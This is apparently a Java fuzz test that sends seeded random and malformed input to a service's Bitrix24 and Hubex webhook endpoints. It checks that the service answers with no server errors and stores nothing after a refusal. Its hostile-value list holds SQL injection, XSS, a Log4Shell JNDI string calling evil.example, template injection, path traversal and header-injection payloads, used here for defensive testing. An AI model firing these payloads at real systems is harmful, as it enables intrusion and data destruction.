package io.dealflow.inbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import io.dealflow.support.RunningServiceTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Both webhook endpoints over real HTTP (Tomcat, the filters, the real inbox tables on H2) under hostile input:
 * random bytes, random forms and JSON made of hostile values, wrong and broken content types, bodies and headers
 * far over the limits. Every answer must be 2xx or 4xx - never a 500 - and a 4xx must store nothing. The random
 * input is seeded, so a failure names a reproducible request.
 */
@RunningServiceTest
class WebhookFuzzTest {

    private static final long SEED = 20261128L;
    private static final int ROUNDS = 400;
    private static final String APP_TOKEN = "test-app-token";
    private static final String HUBEX_TOKEN = "test-hubex-token";

    /** Values that have broken parsers, databases and log viewers elsewhere. */
    private static final List<String> HOSTILE = List.of(
            "", " ", "4711", "-1", "0", "9223372036854775807", "9223372036854775808", "1e3", "0x10", "4711.0",
            "' OR '1'='1", "1; DROP TABLE dealflow_deal_event;--", "4711' --", "\" OR \"\"=\"", "1 UNION SELECT 1",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
            "#{7*7}", "{{7*7}}", "../../../../etc/passwd", "%00", "\u0000", "\u0000ONCRMDEALUPDATE", "\r\nX-Injected: 1",
            "ONCRMDEALUPDATE", "oncrmdealupdate", "ONCRMDEALDELETE", "ONCRMDEALADD ", "ONCRMCONTACTUPDATE",
            "Сделка №4711", "🚀🔥", "\u202Eevil\u202C", "\uFEFF4711", "٤٧١١", "𝟒𝟕𝟏𝟏", "\uD800", "\uDFFF\uD800",
            "a".repeat(5000), "x".repeat(300), APP_TOKEN, APP_TOKEN + " ", "TEST-APP-TOKEN", "acme.bitrix24.ru");

    private static final List<String> FORM_KEYS = List.of("event", "data[FIELDS][ID]", "auth[application_token]",
            "auth[domain]", "auth[member_id]", "ts", "event_handler_id", "data[FIELDS]", "auth", "data[FIELDS][ID][]",
            "", "=", "&", "☃");

    private static final List<String> CONTENT_TYPES = List.of("application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded; charset=UTF-8", "application/x-www-form-urlencoded; charset=utf-16",
            "application/x-www-form-urlencoded; charset=koi8-r", "application/x-www-form-urlencoded; charset=nonsense",
            "application/json", "application/json; charset=UTF-8", "text/plain", "text/html", "application/xml",
            "multipart/form-data; boundary=xyz", "multipart/form-data", "application/octet-stream", "*/*", "x",
            ";;;", "application/", "/json", "application/json; charset=\"", "application/x-www-form-urlencoded;;q=");

    @LocalServerPort int port;
    @Autowired JdbcTemplate jdbc;

    private final HttpClient http = HttpClient.newHttpClient();
    private final Random random = new Random(SEED);

    @Test
    void randomFormsAtTheBitrix24Endpoint() throws Exception {
        for (int i = 0; i < ROUNDS; i++) {
            String contentType = random.nextInt(4) == 0 ? pick(CONTENT_TYPES) : "application/x-www-form-urlencoded";
            byte[] body = randomForm().getBytes(StandardCharsets.UTF_8);
            check("bitrix24 form #" + i, "/webhooks/bitrix24", contentType, body);
        }
    }

    @Test
    void randomBytesAtBothEndpoints() throws Exception {
        for (int i = 0; i < ROUNDS; i++) {
            byte[] body = new byte[random.nextInt(2048)];
            random.nextBytes(body);
            if (random.nextBoolean()) {
                // random bytes behind a valid prefix get past the token check more often
                body = concat(("auth%5Bapplication_token%5D=" + APP_TOKEN + "&event=").getBytes(StandardCharsets.UTF_8),
                        body);
            }
            check("bitrix24 bytes #" + i, "/webhooks/bitrix24", pick(CONTENT_TYPES), body);
            check("hubex bytes #" + i, "/webhooks/hubex?token=" + HUBEX_TOKEN, pick(CONTENT_TYPES), body);
        }
    }

    @Test
    void randomJsonAtTheHubexEndpoint() throws Exception {
        for (int i = 0; i < ROUNDS; i++) {
            String token = random.nextInt(5) == 0 ? encode(pick(HOSTILE)) : HUBEX_TOKEN;
            String contentType = random.nextInt(4) == 0 ? pick(CONTENT_TYPES) : "application/json";
            check("hubex json #" + i, "/webhooks/hubex?token=" + token, contentType,
                    randomJson(0).getBytes(StandardCharsets.UTF_8));
        }
    }

    @Test
    void brokenUtf8AndOtherCharsets() throws Exception {
        byte[][] broken = {{(byte) 0xC3, (byte) 0x28}, {(byte) 0xE2, (byte) 0x28, (byte) 0xA1},
                {(byte) 0xF0, (byte) 0x90, (byte) 0x28, (byte) 0xBC}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xED,
                (byte) 0xA0, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}};
        for (byte[] bytes : broken) {
            byte[] form = concat(("event=ONCRMDEALUPDATE&data%5BFIELDS%5D%5BID%5D=4711&auth%5Bapplication_token%5D="
                    + APP_TOKEN + "&auth%5Bdomain%5D=").getBytes(StandardCharsets.UTF_8), bytes);
            check("raw broken UTF-8", "/webhooks/bitrix24", "application/x-www-form-urlencoded", form);
            String escaped = new String(form, StandardCharsets.ISO_8859_1).chars()
                    .mapToObj(c -> c < 0x80 ? String.valueOf((char) c) : String.format("%%%02X", c))
                    .collect(Collectors.joining());
            check("%-escaped broken UTF-8", "/webhooks/bitrix24", "application/x-www-form-urlencoded",
                    escaped.getBytes(StandardCharsets.US_ASCII));
            check("broken UTF-8 in JSON", "/webhooks/hubex?token=" + HUBEX_TOKEN, "application/json",
                    concat("{\"id\":5129,\"name\":\"".getBytes(StandardCharsets.UTF_8), bytes, "\"}".getBytes()));
        }
        check("UTF-16 JSON", "/webhooks/hubex?token=" + HUBEX_TOKEN, "application/json; charset=UTF-16",
                "{\"id\":5129}".getBytes(StandardCharsets.UTF_16));
        check("deep JSON", "/webhooks/hubex?token=" + HUBEX_TOKEN, "application/json",
                ("[".repeat(5000) + "]".repeat(5000)).getBytes(StandardCharsets.US_ASCII));
    }

    @Test
    void bodiesOverTheLimitAreRefusedUnreadWhetherAnnouncedOrChunked() throws Exception {
        byte[] big = ("event=ONCRMDEALUPDATE&data%5BFIELDS%5D%5BID%5D=4711&auth%5Bapplication_token%5D=" + APP_TOKEN
                + "&pad=" + "x".repeat(70_000)).getBytes(StandardCharsets.US_ASCII);
        for (String path : List.of("/webhooks/bitrix24", "/webhooks/hubex?token=" + HUBEX_TOKEN)) {
            long dealsBefore = newest("dealflow_deal_event");
            long tasksBefore = newest("dealflow_task_event");

            HttpResponse<String> announced = send(HttpRequest.newBuilder(url(path))
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofByteArray(big)).build());
            // no length known in advance: HttpClient sends Transfer-Encoding: chunked
            HttpResponse<String> chunked = send(HttpRequest.newBuilder(url(path))
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(
                            concat(big, "x".repeat(1_000_000).getBytes(StandardCharsets.US_ASCII))))).build());

            assertThat(announced.statusCode()).as("%s with Content-Length", path).isEqualTo(413);
            assertThat(chunked.statusCode()).as("%s chunked", path).isEqualTo(413);
            assertThat(chunked.body()).contains("dealflow.webhooks.max-body-size");
            assertThat(newest("dealflow_deal_event")).isEqualTo(dealsBefore);
            assertThat(newest("dealflow_task_event")).isEqualTo(tasksBefore);
        }
    }

    @Test
    void hugeHeadersAreRefusedByTheServer() throws Exception {
        HttpResponse<String> response = send(HttpRequest.newBuilder(url("/webhooks/hubex?token=" + HUBEX_TOKEN))
                .header("Content-Type", "application/json").header("X-Padding", "p".repeat(64 * 1024))
                .POST(HttpRequest.BodyPublishers.ofString("{\"id\":5129}")).build());

        assertThat(response.statusCode()).isBetween(400, 499);
    }

    @Test
    void aValidEventIsStillStoredAfterAllThat() throws Exception {
        long before = newest("dealflow_deal_event");

        HttpResponse<String> response = send(HttpRequest.newBuilder(url("/webhooks/bitrix24"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString("event=ONCRMDEALUPDATE&data%5BFIELDS%5D%5BID%5D=4711"
                        + "&auth%5Bdomain%5D=" + encode("Сделка 🚀") + "&auth%5Bapplication_token%5D=" + APP_TOKEN))
                .build());

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(jdbc.queryForObject("select portal_domain from dealflow_deal_event where id > ? and deal_id = 4711",
                String.class, before)).isEqualTo("Сделка 🚀");
    }

    private void check(String what, String path, String contentType, byte[] body) throws Exception {
        long dealsBefore = newest("dealflow_deal_event");
        long tasksBefore = newest("dealflow_task_event");
        HttpRequest.Builder request = HttpRequest.newBuilder(url(path))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        HttpResponse<String> response = send(request.build());
        int status = response.statusCode();
        String described = what + " (" + contentType + ", " + body.length + " bytes) -> " + status + " "
                + response.body();
        assertThat(status).as(described).satisfiesAnyOf(s -> assertThat(s).isBetween(200, 299),
                s -> assertThat(s).isBetween(400, 499));
        if (status >= 400) {
            assertThat(response.body()).as(described).contains("\"error\"");
            assertThat(newest("dealflow_deal_event")).as("deal events after " + described).isEqualTo(dealsBefore);
            assertThat(newest("dealflow_task_event")).as("task events after " + described).isEqualTo(tasksBefore);
        }
    }

    private long newest(String table) {
        Long id = jdbc.queryForObject("select max(id) from " + table, Long.class);
        return id == null ? 0 : id;
    }

    private String randomForm() {
        List<String> pairs = new ArrayList<>();
        if (random.nextInt(3) > 0) {
            pairs.add("auth%5Bapplication_token%5D=" + (random.nextInt(4) > 0 ? APP_TOKEN : encode(pick(HOSTILE))));
        }
        if (random.nextInt(3) > 0) {
            pairs.add("event=" + encode(random.nextBoolean() ? "ONCRMDEALUPDATE" : pick(HOSTILE)));
        }
        int more = random.nextInt(6);
        for (int i = 0; i < more; i++) {
            String key = pick(FORM_KEYS);
            String value = pick(HOSTILE);
            switch (random.nextInt(5)) {
                case 0 -> pairs.add(key + "=" + value);                 // not encoded at all
                case 1 -> pairs.add(encode(key) + "=%" + Integer.toHexString(random.nextInt(256)) + "%");
                default -> pairs.add(encode(key) + "=" + encode(value));
            }
        }
        Collections.shuffle(pairs, random);
        return String.join(random.nextInt(10) == 0 ? "&&" : "&", pairs);
    }

    private String randomJson(int depth) {
        int kind = depth > 4 ? random.nextInt(4) : random.nextInt(8);
        return switch (kind) {
            case 0 -> String.valueOf(random.nextLong());
            case 1 -> "\"" + pick(HOSTILE).replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
            case 2 -> random.nextBoolean() ? "null" : "true";
            case 3 -> pick(HOSTILE);                                       // not JSON at all
            case 4, 5 -> "{" + IntStream.range(0, random.nextInt(4)).mapToObj(i -> "\""
                    + pick(List.of("id", "taskID", "TaskId", "task", "data", "entity", "eventID", "x", "")) + "\":"
                    + randomJson(depth + 1)).collect(Collectors.joining(",")) + "}";
            default -> "[" + IntStream.range(0, random.nextInt(4))
                    .mapToObj(i -> randomJson(depth + 1)).collect(Collectors.joining(",")) + "]";
        };
    }

    private HttpResponse<String> send(HttpRequest request) throws IOException, InterruptedException {
        return http.send(request, HttpResponse.BodyHandlers.ofString());
    }

    private URI url(String path) {
        return URI.create("http://localhost:" + port + path);
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        int length = 0;
        for (byte[] part : parts) {
            length += part.length;
        }
        byte[] all = new byte[length];
        int at = 0;
        for (byte[] part : parts) {
            System.arraycopy(part, 0, all, at, part.length);
            at += part.length;
        }
        return all;
    }
}
